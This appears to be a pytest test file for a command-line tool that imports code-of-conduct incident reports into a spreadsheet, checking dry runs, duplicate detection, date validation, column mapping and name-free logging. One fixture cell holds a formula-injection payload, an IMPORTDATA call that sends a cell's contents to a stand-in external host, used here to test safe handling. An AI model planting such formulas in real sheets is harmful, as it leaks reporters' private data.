"""`intake` at the command line, over the local Google."""

import pytest

from sheets_coc.cli.main import run
from tests.cli.inventing import Invented
from tests.cli.local_sheet import ALL, TEN

OLD = {
    "case": "stunned-bulb", "reported_on": "2026-05-01", "subjects": "Wanda Example",
    "contacts": "wanda@example.org", "summary": "Was loud.", "decision": "Violation, resolved",
}  # fmt: skip
HEADER = ["Timestamp", "Reporter name", "Person reported", "E-mail of reported person",
          "What happened", "Action taken", "Rating", "Record type", "Witnesses"]  # fmt: skip
FIRST = ["2026-11-02 14:33:12", "Rita Report", "Karl Kringel", "karl@example.net",
         '=IMPORTDATA("http://x.example/"&B2)', "No", "5", "Flagged", "Will Witness"]  # fmt: skip
SECOND = [
    "15 November 2026",
    "",
    "Wanda Example",
    "",
    "Shouted; twice",
    "Asked to leave",
    "",
    "",
    "",
]
AGAIN = ["2026-05-01", "", "Example, Wanda", "Wanda@Example.org", "Was loud, again", "", "", "", ""]
NAMES = ("Rita", "Karl", "karl@", "Wanda", "Will", "Shouted", "IMPORTDATA", "Witness")


@pytest.fixture
def sheet(tmp_path, capsys, monkeypatch):
    return Invented(tmp_path, capsys, monkeypatch)


def _file(sheet, *rows, name="reports.csv", header=HEADER):
    return str(sheet.csv(name, [header, *rows]))


def test_shown_first_and_nothing_written(sheet):
    sheet.new([OLD])
    before = sheet.show()
    code, out, err = sheet.run("intake", _file(sheet, FIRST, SECOND))
    assert code == 0
    assert sheet.show() == before
    assert run(["local", "show", str(sheet.file), "Log"]) != 0
    assert not [name for name in NAMES if name in out.replace("Witnesses", "") + err]


def test_reports_become_rows_below_the_last_one(sheet):
    sheet.new([OLD])
    before = sheet.show()
    file = _file(sheet, FIRST, SECOND)
    code, done = sheet.json("intake", file, "--event", "Conf 2026", "--apply")
    assert (code, done["applied"], done["rows"]) == (0, True, 2)
    after = sheet.show()
    assert after[: len(before)] == before
    first, second = sheet.records()[1:]
    assert [first["case"], second["case"]] == done["cases"]
    assert len({*done["cases"], "stunned-bulb"}) == 3
    assert first | {
        "reported_on": "2026-11-02", "reporter": "Rita Report", "subjects": "Karl Kringel",
        "contacts": "karl@example.net", "summary": FIRST[4], "local_action": "No",
        "others": "Will Witness", "decision": "Open", "event": "Conf 2026", "flag": "",
    } == first  # fmt: skip
    assert (second["reported_on"], second["local_action"]) == ("2026-11-15", "Asked to leave")
    log = sheet.show("Log")
    assert len(log) == 2
    assert log[1][1:3] == ["intake", ", ".join(done["cases"])]
    assert not [name for name in NAMES if name in str(log)]
    assert done["left_out"] == {"G": "unknown", "H": "committee"}
    assert "2 reports from Conf 2026" in done["letter"]
    assert "Cc: conduct@djangoproject.com" in done["letter"]


def test_types_and_flags_are_left_to_the_committee(sheet):
    sheet.new([OLD])
    file = sheet.csv("own.csv", [
        ["Case", "Date of 1st report", "Named subjects", "Banned or flagged", "Date to expunge",
         "Hold"],
        ["stunned-bulb", "2026-11-01", "Karl Kringel", "banned", "2026-11-02", "x"],
    ])  # fmt: skip
    done = sheet.json("intake", str(file), "--apply")[1]
    row = sheet.records()[1]
    assert (row["flag"], row["expunge_on"], row["hold"]) == ("", "", "")
    assert row["decision"] == "Open"
    assert row["case"] == done["cases"][0] != "stunned-bulb"
    assert done["left_out"] == {"A": "committee", "D": "committee", "E": "committee",
                                "F": "committee"}  # fmt: skip


def test_duplicates_stop_before_anything_is_written(sheet):
    sheet.new([OLD])
    before = sheet.show()
    file = _file(sheet, FIRST, AGAIN)
    code, shown = sheet.json("intake", file)
    assert code == 1
    assert shown["duplicates"] == [
        {"row": 3, "like": "stunned-bulb", "why": "same people and date"}
    ]
    code, _, err = sheet.run("intake", file, "--apply")
    assert code == 3
    assert "stunned-bulb" in err
    assert sheet.show() == before
    skipped = sheet.json("intake", file, "--apply", "--duplicates", "skip")[1]
    assert (skipped["applied"], skipped["rows"]) == (True, 1)
    assert sheet.records()[1]["subjects"] == "Karl Kringel"


def test_running_it_twice_adds_nothing_twice(sheet):
    sheet.new([OLD])
    file = _file(sheet, FIRST, ["", "", "", "", "Nobody is named here", "", "", "", ""])
    assert sheet.json("intake", file, "--apply")[1]["rows"] == 2
    once = sheet.show()
    assert sheet.run("intake", file, "--apply")[0] == 3
    assert sheet.json("intake", file, "--apply", "--duplicates", "skip")[1]["applied"] is False
    assert sheet.show() == once
    assert sheet.json("intake", file, "--apply", "--duplicates", "add")[1]["rows"] == 2


def test_what_has_no_date_or_no_text_is_not_added_twice_either(sheet):
    sheet.new([OLD])
    file = sheet.csv("thin.csv", [
        ["Date of report", "Reporter", "Named subjects", "Summary", "Action taken"],
        ["", "Rita Report", "Jil Kringel", "", ""],
        ["2026-11-15", "Rita Report", "", "", "Asked to leave"],
    ])  # fmt: skip
    for rows in (2, 0, 0):
        done = sheet.json("intake", str(file), "--apply", "--duplicates", "skip")[1]
        assert (done["rows"], done["applied"]) == (rows, rows > 0)
    assert {one["why"] for one in done["duplicates"]} == {"same in every cell"}


def test_the_same_people_on_another_day_are_a_notice(sheet):
    sheet.new([OLD])
    code, shown = sheet.json("intake", _file(sheet, ["2026-11-15", *AGAIN[1:]]))
    assert (code, shown["duplicates"]) == (0, [])
    assert [one["why"] for one in shown["similar"]] == ["same people, another date"]


def test_two_reports_about_somebody_on_one_day_are_two_reports(sheet):
    sheet.new([OLD])
    other = [*FIRST[:4], "Something else", *FIRST[5:]]
    code, shown = sheet.json("intake", _file(sheet, FIRST, other))
    assert (code, shown["duplicates"], shown["rows"]) == (0, [], 2)
    code, shown = sheet.json("intake", _file(sheet, FIRST, FIRST))
    assert (code, [one["row"] for one in shown["duplicates"]]) == (1, [3])


def test_new_rows_are_validated(sheet):
    sheet.new([OLD])
    rows = [["3/4/2026", "", "A Person", "", "x", "", "", "", ""],
            ["2027-11-15", "", "B Person", "", "y", "", "", "", ""],
            ["", "", "C Person", "", "z", "", "", "", ""]]  # fmt: skip
    code, shown = sheet.json("intake", _file(sheet, *rows))
    assert code == 1
    assert {(f["row"], f["code"]) for f in shown["findings"]} == {
        (2, "ambiguous-date"), (3, "report-in-future"), (4, "no-report-date"),
    }  # fmt: skip
    received = sheet.json("intake", _file(sheet, rows[2]), "--received", "2026-11-20", "--apply")
    assert received[0] == 0
    assert sheet.records()[1]["reported_on"] == "2026-11-20"


def test_the_ten_column_sheet(sheet):
    sheet.new([OLD], TEN)
    code, done = sheet.json("intake", _file(sheet, FIRST), "--event", "Conf", "--apply")
    assert (code, done["cases"], sorted(done["no_column"])) == (0, [], ["event", "others"])
    assert sheet.records()[1]["subjects"] == "Karl Kringel"
    assert sheet.json("validate")[1]["rows"] == 2


def test_columns_in_any_order_among_others(sheet):
    keys = [*reversed(ALL)]
    sheet.new([OLD], keys)
    sheet.json("intake", _file(sheet, FIRST), "--apply")
    assert sheet.records()[1]["subjects"] == "Karl Kringel"
    assert sheet.records()[1]["reported_on"] == "2026-11-02"


def test_a_workbook(sheet):
    from datetime import datetime

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(HEADER)
    book.active.append([datetime(2026, 11, 2, 14, 30), *FIRST[1:4], "Shouted", *FIRST[5:]])
    book.save(sheet.folder / "reports.xlsx")
    sheet.new([OLD])
    done = sheet.json("intake", str(sheet.folder / "reports.xlsx"), "--apply")[1]
    assert done["applied"]
    row = sheet.records()[1]
    assert (row["reported_on"], row["summary"]) == ("2026-11-02", "Shouted")


def test_columns_named_by_hand(sheet):
    sheet.new([OLD])
    file = _file(sheet, ["Karl Kringel", "Shouted"], header=["Wer", "Was"])
    assert sheet.run("intake", file)[0] == 2
    options = ("--column", "subjects=A", "--column", "summary=was", "--received", "2026-11-20")
    assert sheet.json("intake", file, *options, "--apply")[1]["rows"] == 1
    assert sheet.records()[1]["summary"] == "Shouted"
    assert sheet.run("intake", file, "--column", "flag=A")[0] == 2
    assert sheet.run("intake", file, "--column", "subjects=Z", "--column", "summary=B")[0] == 2


def test_rows_that_fell_apart_stop_the_writing(sheet):
    sheet.new([OLD])
    file = sheet.folder / "broken.csv"
    file.write_text("Person reported,What happened\nKarl Kringel,loud, very loud\nB Person,x\n")
    code, shown = sheet.json("intake", str(file), "--received", "2026-11-20")
    assert (code, shown["unreadable"], shown["rows"]) == (1, [2], 1)
    before = sheet.show()
    assert sheet.run("intake", str(file), "--apply")[0] == 2
    assert sheet.show() == before


@pytest.mark.parametrize(
    "content", [b"", b"Person reported,What happened\n", b"\x00\x01", b"%PDF-1.4"]
)
def test_files_that_hold_no_reports(sheet, content):
    sheet.new([OLD])
    (sheet.folder / "x.csv").write_bytes(content)
    code, out, err = sheet.run("intake", str(sheet.folder / "x.csv"), "--apply")
    assert code == 2
    assert str(sheet.folder) not in out + err
    assert sheet.run("intake", str(sheet.folder / "missing.csv"))[0] == 2


def test_standard_input_and_a_letter_in_a_file(sheet):
    sheet.new([OLD])
    target = sheet.folder / "letter.txt"
    csv_text = "Person reported,What happened,Date\nKarl Kringel,loud,2026-11-20\n"
    code, out, _ = sheet.run("intake", "-", "--event", "Conf", "--out", str(target), stdin=csv_text)
    assert code == 0
    assert "1 report from Conf" in target.read_text()
    assert "Cc:" not in out


def test_reports_that_name_nobody_are_asked_about(sheet):
    sheet.new([OLD])
    file = sheet.folder / "thin.csv"
    file.write_text("Date,What happened\n2026-11-15,It was loud\n")
    code, shown = sheet.json("intake", str(file))
    assert (code, shown["needs"]) == (1, ["subjects"])
    before = sheet.show()
    assert sheet.run("intake", str(file), "--apply")[0] == 2
    assert sheet.show() == before
    assert sheet.json("intake", str(file), "--without-subjects", "--apply")[1]["applied"]


def test_a_column_of_addresses_is_asked_about(sheet):
    sheet.new([OLD])
    file = sheet.folder / "mail.csv"
    file.write_text("Person reported,Email,What happened\nA Person,a@example.org,x\n")
    options = ("--received", "2026-11-20")
    code, shown = sheet.json("intake", str(file), *options)
    assert (code, shown["asked"]) == (1, ["B"])
    assert "Column B holds addresses" in sheet.run("intake", str(file), *options)[1]
    assert sheet.json("intake", str(file), *options, "--column", "contacts=B")[0] == 0


def test_the_tab_a_form_writes_to(sheet):
    sheet.new([OLD])
    other = sheet.folder / "form.coc"
    responses = sheet.csv("form.csv", [["Timestamp", "Person reported", "What happened"],
                                       ["2026-11-15", "Karl Kringel", "Shouted"]])  # fmt: skip
    assert run(["local", "new", str(other), f"Form={responses}"]) == 0
    done = sheet.json("intake", f"local:{other}", "--apply")[1]
    assert done["applied"]
    assert sheet.records()[1]["reported_on"] == "2026-11-15"
